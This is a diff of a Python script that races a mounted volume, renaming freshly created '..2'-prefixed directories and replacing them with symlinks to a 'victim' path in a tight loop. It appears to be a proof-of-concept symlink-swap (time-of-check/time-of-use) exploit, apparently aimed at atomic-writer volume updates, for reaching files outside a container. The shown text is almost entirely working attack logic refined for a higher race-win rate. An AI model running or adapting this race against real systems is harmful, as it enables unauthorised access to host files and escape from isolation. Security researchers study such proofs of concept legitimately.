@@ -34,13 +34,22 @@ def _main(volume: Path, victim: Path) -> None:
     sys.stdout.flush()
     turn = 0
     while not select.select([sys.stdin], [], [], 0)[0]:
-        with suppress(OSError):
-            for name in os.listdir(volume):  # noqa: PTH208
+        for _ in range(100):
+            with suppress(OSError):
                 turn += 1
-                with suppress(OSError):
-                    _swap(volume / name, victim, turn)
+                _swap_all(volume, victim, turn)
+
+
+def _swap_all(volume: Path, victim: Path, turn: int) -> None:
+    """Swap every directory for a link as soon as it is there, and sometimes more."""
+    for name in os.listdir(volume):  # noqa: PTH208
+        place = f"{volume}/{name}"
         with suppress(OSError):
-            volume.joinpath("..data_tmp").symlink_to(victim)
+            if name.startswith("..2"):
+                os.rename(place, f"{volume}/x{turn}")  # noqa: PTH104
+                os.symlink(victim, place)  # noqa: PTH211
+            elif turn % 7 == 0:
+                _swap(Path(place), victim, turn)
 
 
 def _swap(place: Path, victim: Path, turn: int) -> None:
